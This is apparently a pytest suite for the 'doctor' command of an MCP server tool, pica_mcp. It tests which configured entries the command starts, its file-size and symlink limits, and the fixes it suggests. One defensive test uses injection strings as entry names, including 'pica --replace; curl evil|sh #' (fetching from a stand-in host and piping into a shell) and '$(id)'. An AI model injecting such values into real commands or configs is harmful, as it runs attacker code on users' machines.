"""Entries that doctor meets: only servers are started, names stay harmless, files are bounded, cures fit."""

from __future__ import annotations

import json
import os
import shlex
import sqlite3
import sys
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from setups import Findings, Machine

from pica_mcp.catalog import catalogue_file, prepare
from pica_mcp.diagnosis import Group, Result, Status, found, installed
from pica_mcp.sandbox import LIVE_SECRET

PYTHON = {"command": sys.executable}
POSIX = pytest.mark.skipif(os.name != "posix", reason="of scripts")


def cursor(folder: Path, **entries: Any) -> None:
    (folder / ".cursor").mkdir(exist_ok=True)
    file = folder / ".cursor" / "mcp.json"
    file.write_text(json.dumps({"mcpServers": entries}))
    file.chmod(0o600)


async def told(machine: Machine, **case: Any) -> Findings:
    machine.environ.pop("PICA_SECRET", None)
    return await machine.doctor(sandbox=True, **case)


async def of(machine: Machine, name: str = "Cursor/pica") -> Result:
    return (await told(machine)).of(Group.CLIENTS, name)[0]


def script(folder: Path, text: str) -> str:
    file = folder / "pica-mcp"
    file.write_text(f"#!/bin/sh\n{text}\n")
    file.chmod(0o755)
    return str(file)


# What is started


@POSIX
@pytest.mark.parametrize("args", [["install", "windsurf", "--sandbox"], ["call", "gmail_send_email", "--yes"]])
async def test_a_command_that_is_no_server_is_not_started(machine: Machine, tmp_path: Path, args: list[str]) -> None:
    program = script(tmp_path, f": > {tmp_path}/ran")
    module = [*("-P", "-m", "pica_mcp"), *args]
    cursor(machine.home, pica={"command": program, "args": args}, other={**PYTHON, "args": module})
    results = (await told(machine)).of(Group.CLIENTS)
    why = f"not started: it is no server, but runs the command {args[0]}"
    assert [(one.status, one.found.endswith(why)) for one in results if "/" in one.name] == [(Status.SKIPPED, True)] * 2
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("args", [["serve", "--sandbox"], ["--sandbox"]])
async def test_a_server_is_started_whichever_way_its_command_is_spelt(machine: Machine, args: list[str]) -> None:
    cursor(machine.home, pica={**PYTHON, "args": ["-P", "-m", "pica_mcp", *args]})
    assert (await of(machine)).status is Status.OK


@pytest.mark.parametrize(
    ("kept", "variable", "off"),
    [
        ("", "PICA_SECRET", True),
        ("sk_live_of_another", "PICA_SECRET", True),
        (LIVE_SECRET, "PICA_SECRET", False),
        (LIVE_SECRET, "PICA_SECRET_FILE", False),
        (LIVE_SECRET, "PICA_SECRET_COMMAND", True),
    ],
)
@POSIX
async def test_a_catalogue_is_never_made_and_one_of_the_same_account_is_used(
    machine: Machine, tmp_path: Path, kept: str, variable: str, *, off: bool
) -> None:
    folder = machine.home / "cache"
    folder.mkdir()
    if kept:
        with closing(sqlite3.connect(folder / catalogue_file("https://api.picaos.com", kept, 40))) as database:
            prepare(database)
    (tmp_path / "key").write_text(LIVE_SECRET)
    said = {"PICA_SECRET_FILE": str(tmp_path / "key"), "PICA_SECRET_COMMAND": f"cat {tmp_path}/key"}
    program = script(tmp_path, f'echo "$@" > {tmp_path}/args')
    env = {variable: said.get(variable, LIVE_SECRET), "PICA_CACHE": str(folder)}
    cursor(machine.home, pica={"command": program, "args": [], "env": env})
    await told(machine)
    assert ("--cache off" in (tmp_path / "args").read_text()) is off


@POSIX
async def test_all_that_is_told_to_be_run_is_harmless(machine: Machine) -> None:
    names = ("pica --replace; curl evil|sh #", "$(id)", "work")
    cursor(machine.project, **{name: {"command": "npx", "args": ["@picahq/mcp"]} for name in names})
    cures = [one.cure for one in (await told(machine)).of(Group.CLIENTS) if "official" in one.found]
    whole = "pica-mcp install cursor --scope project"
    assert [shlex.split(cure.split("`")[1]) for cure in cures] == [
        shlex.split(f"{whole} --replace"),
        shlex.split(f"{whole} --replace"),
        shlex.split(f"{whole} --name work --replace"),
    ]


# Bounds


async def test_a_large_file_of_a_project_is_not_read(machine: Machine) -> None:
    (machine.project / ".mcp.json").write_text('{"mcpServers": {}}' + " " * 2**20)
    result = await of(machine, "Claude Code")
    assert (result.status, "larger than 1 MB, and was not read" in result.found) == (Status.WARNING, True)


@POSIX
@pytest.mark.parametrize("name", [".mcp.json", ".cursor/mcp.json"])
async def test_a_link_of_a_project_that_leads_out_of_it_is_not_followed(
    machine: Machine, tmp_path: Path, name: str
) -> None:
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "mcp.json").write_text(json.dumps({"mcpServers": {"elsewhere": {"command": "pica-mcp"}}}))
    link = machine.project / name
    if link.parent == machine.project:
        link.symlink_to(tmp_path / "out" / "mcp.json")
    else:
        link.parent.symlink_to(tmp_path / "out")
    results = await told(machine, starts=False)
    result = results.one(Group.CLIENTS, "Claude Code" if name == ".mcp.json" else "Cursor")
    assert (result.status, "leads out of it" in result.found) == (Status.WARNING, True)
    assert "elsewhere" not in results.text


@POSIX
async def test_a_file_that_takes_long_to_read_holds_nothing_else_up(
    machine: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(found, "_READ_SECONDS", 0.0)
    cursor(machine.home)
    results = await told(machine)
    assert results.one(Group.CLIENTS, "Cursor").status is Status.FAILURE
    assert "could not be read within" in results.one(Group.CLIENTS, "Cursor").found
    assert results.of(Group.TOOLS, "list") != []


def test_entries_that_all_hang_share_the_time_that_there_is() -> None:
    assert [installed._share(count) for count in (0, 1, 3, 4, 9, 20)] == [40, 40, 40, 20, pytest.approx(40 / 3), 40 / 7]  # pyright: ignore[reportPrivateUsage, reportUnknownMemberType]


async def test_more_entries_than_are_looked_at_are_counted_and_the_users_own_come_first(machine: Machine) -> None:
    nothing = {**PYTHON, "args": ["-m", "pica_mcp", "call"]}
    cursor(machine.project, **{f"server-{number}": nothing for number in range(30)})
    (machine.home / ".gemini").mkdir()
    (machine.home / ".gemini" / "settings.json").write_text(json.dumps({"mcpServers": {"own": nothing}}))
    results = (await told(machine)).of(Group.CLIENTS)
    names = [one.name for one in results if "/" in one.name]
    assert (names[0], len(names)) == ("Gemini CLI/own", 20)
    (more,) = [one for one in results if one.name == "more"]
    assert (more.status, more.found) == (Status.SKIPPED, "11 more entries of this program, which are not looked at")


async def test_a_project_with_many_entries_of_the_official_server_floods_nothing(machine: Machine) -> None:
    cursor(machine.project, **{f"server-{number}": {"command": "npx", "args": ["@picahq/mcp"]} for number in range(99)})
    results = (await told(machine)).of(Group.CLIENTS)
    assert sum("official server" in one.found for one in results) == found._MAX_OFFICIAL  # pyright: ignore[reportPrivateUsage]


# What a server says of itself


@pytest.mark.parametrize(
    ("said", "cure"),
    [
        (
            "pica-mcp: PICA_IDENTIY is no setting. Did you mean PICA_IDENTITY?",
            "Correct PICA_IDENTIY in {file}.",
        ),
        (
            "pica-mcp: PICA_PERMISSIONS is 'all', but must be one of read, write, admin.",
            "Correct PICA_PERMISSIONS in {file}, or give it anew: `pica-mcp install cursor --permissions VALUE`.",
        ),
        (
            "pica-mcp: PICA_SECRET is not set. Set it.",
            "Set MY_KEY where Cursor is started, or keep the secret elsewhere",
        ),
        (
            "pica-mcp: Pica cannot be reached; nothing was sent.",
            "The group Network tells why: `pica-mcp doctor cursor/pica`",
        ),
        ("", "Set MY_KEY where Cursor is started"),
    ],
)
@POSIX
async def test_the_cure_fits_what_an_entry_says(machine: Machine, tmp_path: Path, said: str, cure: str) -> None:
    program = script(tmp_path, f"echo '{said}' >&2; exit 2")
    cursor(machine.home, pica={"command": program, "env": {"PICA_SECRET": "${env:MY_KEY}"}})
    result = await of(machine)
    assert result.cure.startswith(cure.format(file=machine.home / ".cursor" / "mcp.json"))
    assert "--replace" not in result.cure  # which would leave a restriction out


@POSIX
async def test_what_looks_into_an_entry_of_a_project_is_told_with_project(machine: Machine, tmp_path: Path) -> None:
    cursor(machine.project, pica={"command": script(tmp_path, "echo 'Pica cannot be reached.' >&2; exit 1")})
    (result,) = (await told(machine, projects=True)).of(Group.CLIENTS, "Cursor/pica of this folder")
    look = "`pica-mcp doctor cursor/pica --project` looks at that of this entry."
    assert result.cure == f"The group Network tells why: {look}"
